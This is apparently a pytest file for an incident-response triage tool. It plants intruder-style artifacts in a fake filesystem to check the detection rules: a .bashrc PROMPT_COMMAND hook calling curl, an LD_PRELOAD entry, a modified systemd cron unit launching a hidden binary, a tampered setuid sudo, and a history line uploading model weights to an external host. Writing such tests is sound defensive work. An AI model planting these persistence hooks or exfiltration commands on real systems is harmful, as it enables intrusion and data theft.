"""Rules on variants of the stock tree: what everyday administration leaves raises nothing,
what an intruder leaves does."""

from __future__ import annotations

import shutil
from pathlib import Path

from labwarden.respond.triage import TriageOptions, TriageResult, run_triage
from tests.respond.triage.trees import stock


def triage(root: Path, tmp_path: Path) -> TriageResult:
    return run_triage(TriageOptions(root=root, output=tmp_path / "r.tar.gz"))


def _found(result: TriageResult) -> set[tuple[str, str, int | None]]:
    return {(f.rule, f.location.path, f.location.line) for f in result.findings}


def test_profile_hooks(tmp_path: Path) -> None:
    root = tmp_path / "r"
    stock(root)
    bashrc = root / "home/alice/.bashrc"
    bashrc.write_text(
        bashrc.read_text()
        + "PROMPT_COMMAND='history -a'\n"  # everyday: keeps history across shells
        + "alias sudo='sudo -E'\n"
        + "export PROMPT_COMMAND='python3 -c \"import urllib.request as u\" ; curl -s x'\n"
    )
    shutil.rmtree(root / "var/lib/dpkg")  # as on RHEL: no package database to ask
    (root / "etc/profile.d").mkdir()
    (root / "etc/profile.d/vte.sh").write_text('PROMPT_COMMAND="__vte_prompt_command"\n')
    (root / "etc/profile.d/zz.sh").write_text("LD_PRELOAD=/opt/x/libhook.so\n")
    found = _found(triage(root, tmp_path))
    assert ("triage.persistence.profile", "/home/alice/.bashrc", 14) in found
    assert ("triage.persistence.profile", "/home/alice/.bashrc", 15) in found
    assert ("triage.persistence.profile", "/etc/profile.d/zz.sh", 1) in found
    assert not {f for f in found if f[2] == 13 or f[1] == "/etc/profile.d/vte.sh"}


def test_a_package_file_changed_is_reported_and_a_stock_one_is_not(tmp_path: Path) -> None:
    root = tmp_path / "r"
    stock(root)
    unit = root / "lib/systemd/system/cron.service"
    unit.write_text(unit.read_text().replace("/usr/sbin/cron -f", "/usr/sbin/cron -f; /opt/.u/x"))
    sudo = root / "usr/bin/sudo"
    sudo.write_bytes(sudo.read_bytes() + b"backdoor")
    result = triage(root, tmp_path)
    by_rule = {f.rule: f for f in result.findings}
    assert "changed since its package installed it" in by_rule["triage.persistence.systemd"].message
    setuid = by_rule["triage.files.setuid"]
    assert setuid.location.path == "/usr/bin/sudo" and setuid.severity.value == "critical"
    assert {f.location.path for f in result.findings} == {
        "/lib/systemd/system/cron.service",
        "/usr/bin/sudo",
    }


def test_uploads_to_internal_hosts_are_not_exfiltration(tmp_path: Path) -> None:
    root = tmp_path / "r"
    stock(root)
    history = root / "home/bob/.bash_history"
    history.write_text(
        "rsync -av /data/models/ 10.20.0.40:/backup/\n"
        "scp results.csv bob@192.168.1.20:/tmp/\n"
        "aws s3 cp s3://datasets/x.parquet .\n"
        "curl -T weights.pt https://files.example.org/upload\n"
    )
    found = [f for f in triage(root, tmp_path).findings if f.rule == "triage.exfil.history"]
    assert [(f.location.line, f.severity.value) for f in found] == [(4, "high")]
